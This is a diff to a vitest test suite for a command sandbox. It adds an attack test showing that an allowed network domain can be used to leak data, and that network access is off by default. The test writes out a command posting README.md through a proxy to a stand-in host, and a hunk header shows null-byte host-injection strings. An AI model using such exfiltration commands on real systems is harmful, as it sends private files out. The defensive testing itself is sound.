@@ -1,7 +1,9 @@
+import { readFileSync } from 'node:fs';
 import { createServer as createHttpServer } from 'node:http';
 import { type AddressInfo, createServer } from 'node:net';
 import { networkInterfaces } from 'node:os';
 import { describe, expect, onTestFinished } from 'vitest';
+import { deviceConfig } from '../../src/device/config-schema.ts';
 import { systemProgram } from '../../src/leash/system-program.ts';
 import { startConnectProxy } from '../support/connect-proxy.ts';
 import { askingThere, startDnsServer } from '../support/dns-server.ts';
@@ -303,6 +305,27 @@ for host in [b'evil.org\\\\x00.wild.example.com', b'evil.org\\\\x00allowed.examp
       expect(denied).toContainEqual(
         expect.objectContaining({ host: '127.0.0.1', port: inside.port, owner: 'run-1' }),
       );
+    },
+  );
+
+  // What an allowed domain is told cannot be known here: so none is allowed until the owner opens one, and this is said.
+  attack(
+    '63 through an allowed domain, which is why none is allowed at first',
+    { commands, needs, choice: { network: ['drop.outside.example'] }, timeout: 60_000 },
+    async (scene) => {
+      expect(deviceConfig.parse({}).sandbox.network).toBe('off');
+      expect(readFileSync('SECURITY.md', 'utf8')).toContain('**An allowed domain is a way out**');
+      const drop = await startSite(() => undefined);
+      const proxy = await startConnectProxy({ 'drop.outside.example': drop.port });
+      outer.variables = { HTTPS_PROXY: proxy.url };
+      const send = `${viaProxy} --proxytunnel --data-binary @README.md http://drop.outside.example/`;
+      expect((await scene.shell(send)).output).toBe('a site');
+      const closed = { ...scene.workspace, policy: { ...scene.workspace.policy, network: 'off' as const } };
+      const { code } = await scene.shell(`http_proxy=${proxy.url}; ${send}`, {
+        context: { workspace: closed },
+      });
+      expect(code).not.toBe(0);
+      expect(drop.visits()).toBe(1);
     },
   );
 
